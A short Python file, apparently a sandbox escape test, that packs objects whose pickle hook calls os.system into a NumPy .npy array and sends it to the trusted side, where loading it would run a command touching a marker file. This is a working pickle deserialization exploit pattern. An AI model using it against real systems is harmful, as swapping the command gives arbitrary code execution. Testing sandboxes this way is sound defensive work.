# tries to have code run on the trusted side, by an array of objects, which .npy files hold as a pickle
import io
import os

import numpy as np
from arsenal import fit, the_channel

from kit.sandbox.channel import Frame


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/kit_attack_pickle",)


def predict(model, X):
    packed = io.BytesIO()
    np.save(packed, np.array([Run()] * len(X), dtype=object), allow_pickle=True)
    the_channel().send(Frame.ANSWER, b'{"predict_s": 0.0}\n', packed.getvalue())
    return [0] * len(X)
